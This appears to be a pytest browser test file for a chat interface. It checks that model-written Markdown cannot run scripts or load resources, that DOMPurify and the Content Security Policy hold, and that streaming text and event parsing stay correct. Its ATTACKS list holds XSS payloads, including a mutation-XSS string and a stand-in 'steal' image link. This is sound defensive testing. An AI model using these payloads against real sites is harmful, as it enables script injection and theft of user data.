"""What a model writes does nothing in the page but be read; and the page's own parts that need a browser to run."""

import pytest
from browser import Visitor
from live_server import live

pytestmark = [pytest.mark.slow, pytest.mark.process]
# Each would run a script, load something, or look like a part of the page.
ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](data:text/html,<script>alert(1)</script>)",
    "![x](http://other.test/steal?all)",
    "<form action=http://other.test><input name=key><button>send</button></form>",
    "<style>body{display:none}</style><div style='position:fixed;inset:0' class=drawer id=error>x</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<details open ontoggle=alert(1)>x</details>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[x](https://other.test "title\\" onmouseover=alert(1)")',
]
ALLOWED = {
    *(
        "A",
        "BLOCKQUOTE",
        "BR",
        "BUTTON",
        "CODE",
        "DEL",
        "DIV",
        "EM",
        "H1",
        "H2",
        "H3",
        "H4",
        "H5",
        "H6",
        "HR",
        "INPUT",
        "KBD",
    ),
    *("LI", "OL", "P", "PRE", "SPAN", "STRONG", "SUB", "SUP", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL"),
}
TEXT = """Intro *with* [link][1] and `code`
second line

1. one
   ```js
   let a = `x`;
   ```
2. two

> quote
> 引用，*中文*

| a | b |
|:--|--:|
| 1 | <br> 2 |

```python
print("half
```
end https://example.org ![picture](https://example.org/a.png)

[1]: https://example.org/one
"""


@pytest.fixture(scope="module")
def server():
    with live(columns=4096) as found:
        yield found


@pytest.fixture
def visitor(browser, server):
    found = Visitor(browser, server)
    yield found
    found.close()


def test_nothing_that_a_model_writes_runs_or_loads(visitor, server):
    loaded, dialogs = [], []
    visitor.tab.on("request", lambda request: loaded.append(request.url))
    visitor.tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for attack in ATTACKS:
        visitor.ask(f"say: begin\n\n{attack}\n\nend")
    visitor.tab.wait_for_timeout(200)
    assert dialogs == [] and set(loaded) == {f"{server.url}/v1/chat/completions"}
    inside = ".assistant > .body"
    tags = visitor.tab.eval_on_selector_all(f"{inside} *", "all => [...new Set(all.map((each) => each.tagName))]")
    assert set(tags) <= ALLOWED
    names = visitor.tab.eval_on_selector_all(
        f"{inside} *", "all => [...new Set(all.flatMap((each) => each.getAttributeNames()))]"
    )
    assert set(names) <= {"class", "href", "target", "rel", "title", "type", "data-action"}
    links = visitor.tab.eval_on_selector_all(
        f"{inside} a", "all => all.map((each) => [each.protocol, each.rel, each.target])"
    )
    assert links and all(
        link == ["https:", "noopener noreferrer nofollow", "_blank"] or link[0] in ("http:", ":") for link in links
    )
    # HTML is read as what it is: text.
    assert "<script>alert(1)</script>" in visitor.tab.inner_text("#messages .assistant >> nth=1")


def test_the_second_wall_stands_by_itself(visitor):
    """DOMPurify alone, as if marked let everything through."""
    script = """async (attacks) => {
        const { sanitized } = await import("/static/js/markdown.js");
        const box = document.createElement("div");
        box.append(...attacks.map((html) => sanitized(html)));
        const all = [...box.querySelectorAll("*")];
        return all.map((each) => [each.tagName, each.getAttributeNames(), each.protocol ?? ""]);
    }"""
    found = visitor.run(script, ATTACKS)
    assert {tag for tag, _, _ in found} <= ALLOWED - {"BUTTON", "DIV", "SPAN"}
    assert {name for _, names, _ in found for name in names} <= {"href", "rel", "target", "title", "type", "disabled"}
    assert {protocol for _, _, protocol in found} <= {"", ":"}
    visitor.wrong = [line for line in visitor.wrong if "Content Security Policy" not in line]  # while it was read


def test_the_policy_refuses_code_in_the_page(visitor):
    run = """() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = 1";
        document.body.append(script);
        return window.ran ?? 0;
    }"""
    assert visitor.run(run) == 0
    assert any("Content Security Policy" in line for line in visitor.wrong)
    visitor.wrong.clear()


def test_half_a_text_is_drawn_as_it_is_written(visitor):
    """A code block without its end is code already, not text that jumps later."""
    script = """async (text) => {
        const { MarkdownView } = await import("/static/js/markdown.js");
        const box = document.createElement("div");
        new MarkdownView(box, () => document.createElement("button")).show(text);
        return [...box.querySelectorAll("pre code")].map((code) => [code.className, code.textContent]);
    }"""
    assert visitor.run(script, "a\n\n```python\nprint(1)") == [["language-python", "print(1)\n"]]


def test_a_growing_text_looks_like_a_whole_one(visitor):
    """Blocks that stayed are not drawn again, and it makes no difference."""
    script = """async (text) => {
        const { MarkdownView } = await import("/static/js/markdown.js");
        const make = () => {
            const box = document.createElement("div");
            return [box, new MarkdownView(box, () => document.createElement("button"))];
        };
        const [grown, view] = make();
        const wrong = [];
        for (let end = 1; end <= text.length; end += 1) {
            const [whole, other] = make();
            view.show(text.slice(0, end));
            other.show(text.slice(0, end));
            // What a definition at the end makes of a link far above is drawn when the text is whole.
            if (grown.innerHTML !== whole.innerHTML && !text.slice(0, end).includes("[1]:")) wrong.push(end);
        }
        const kept = grown.firstElementChild;
        view.show(text + "\\n\\nmore");
        const same = kept === grown.firstElementChild;
        const [whole, other] = make();
        view.show(text, true);
        other.show(text);
        return { wrong, same, equal: grown.innerHTML === whole.innerHTML, html: whole.innerHTML };
    }"""
    found = visitor.run(script, TEXT)
    assert found["wrong"] == [] and found["same"] and found["equal"]
    assert 'href="https://example.org/one"' in found["html"] and "<img" not in found["html"]


def test_events_are_the_same_however_the_bytes_are_cut(visitor):
    script = """async ([text, size]) => {
        const { events } = await import("/static/js/server.js");
        const bytes = new TextEncoder().encode(text);
        async function* cut() { for (let i = 0; i < bytes.length; i += size) yield bytes.slice(i, i + size); }
        const found = [];
        for await (const data of events(cut())) found.push(data);
        return found;
    }"""
    lines = [
        ": ping",
        "",
        'data: {"a": "你好😀"}',
        "",
        "data:no blank",
        "",
        "event: x",
        "data: one",
        "data:  two",
        "",
        "data: [DONE]",
        "",
    ]
    wanted = ['{"a": "你好😀"}', "no blank", "one\n two", "[DONE]"]
    for end in ("\n", "\r\n"):
        text = "".join(line + end for line in lines)
        for size in (1, 2, 3, 5, 7, 1000):
            assert visitor.run(script, [text, size]) == wanted
